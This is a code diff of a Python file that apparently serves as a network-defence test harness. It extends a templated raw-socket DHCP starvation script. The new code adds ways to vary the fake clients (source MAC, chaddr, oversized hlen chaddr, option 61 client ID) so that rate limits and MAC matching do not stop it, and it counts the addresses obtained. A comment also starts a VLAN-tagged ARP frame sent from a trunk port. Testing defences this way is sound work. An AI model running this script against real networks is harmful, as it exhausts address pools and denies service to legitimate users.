@@ -39,10 +39,13 @@ for _ in range(5):
     s.send(frame)
 '''
 
-# DISCOVER, then REQUEST for every OFFER, for %(count)d random client MACs (chaddr), one every %(interval)s s (what
-# dhcpstarv does; at most the port's DHCP rate limit, so that the rate limit alone does not stop it). Each frame comes from its client's MAC, or with %(own_source)s from the port's own MAC whatever the chaddr;
-# giaddr %(giaddr)s (0.0.0.0: not relayed; a relay's address: Kea leases from that address's segment and answers
-# the relay, not the client). Prints the OFFERs that came back.
+# DISCOVER, then REQUEST for every OFFER, for %(count)d made-up clients, one every %(interval)s s (what dhcpstarv
+# does; at most the port's DHCP rate limit, so that the rate limit alone does not stop it). What varies per client,
+# %(vary)s: "source" (a random MAC as the frame's source and as chaddr), "chaddr" (a random chaddr, every frame from the
+# port's own MAC), "hlen" (the port's own MAC and 10 random bytes as a 16-byte chaddr, hlen 16, which a 6-byte
+# match on chaddr would take for one client) or "client_id" (a random client identifier, option 61, with the port's
+# own MAC as source and chaddr); giaddr %(giaddr)s (0.0.0.0: not relayed; a relay's address: Kea leases from that address's segment and
+# answers the relay, not the client). Prints the OFFERs that came back and how many addresses they offered.
 DHCP_STARVATION = r'''
 import random, select, socket, struct, time
 s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
@@ -55,15 +58,18 @@ def checksum(header):
     total = (total >> 16) + (total & 0xffff)
     return ~(total + (total >> 16)) & 0xffff
 
-def frame(mac, xid, kind, options=b""):
-    dhcp = struct.pack("!BBBBIHH12s4s16s", 1, 1, 6, 0, xid, 0, 0x8000, b"", giaddr, mac) + b"\0" * 192
+def frame(client, xid, kind, options=b""):
+    chaddr = {"client_id": own, "hlen": own + client + client[:4]}.get("%(vary)s", client)
+    if "%(vary)s" == "client_id":
+        options += b"\x3d\x07\x01" + client
+    dhcp = struct.pack("!BBBBIHH12s4s16s", 1, 1, len(chaddr), 0, xid, 0, 0x8000, b"", giaddr, chaddr) + b"\0" * 192
     dhcp += b"\x63\x82\x53\x63" + bytes([53, 1, kind]) + options + b"\xff"
     udp = struct.pack("!HHHH", 68, 67, 8 + len(dhcp), 0) + dhcp
     ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, b"\0" * 4, b"\xff" * 4)
     ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
-    return b"\xff" * 6 + (own if %(own_source)s else mac) + b"\x08\x00" + ip + udp
+    return b"\xff" * 6 + (client if "%(vary)s" == "source" else own) + b"\x08\x00" + ip + udp
 
-pending, offers = {}, 0
+pending, offers, offered = {}, 0, set()
 def receive(until):
     global offers
     while True:
@@ -85,6 +91,7 @@ def receive(until):
             options = options[2 + length:]
         if kind == 2 and xid in pending:
             offers += 1
+            offered.add(yiaddr)
             s.send(frame(pending.pop(xid), xid, 3, b"\x32\x04" + yiaddr + b"\x36\x04" + server))
 
 for _ in range(%(count)d):
@@ -93,7 +100,7 @@ for _ in range(%(count)d):
     s.send(frame(mac, xid, 1))
     receive(time.time() + %(interval)s)
 receive(time.time() + 3)
-print(offers)
+print(offers, len(offered))
 '''
 
 # A broadcast ARP request tagged with VLAN %(vlan)d, sent out of interface %(interface)s as it is (a trunk port): asks
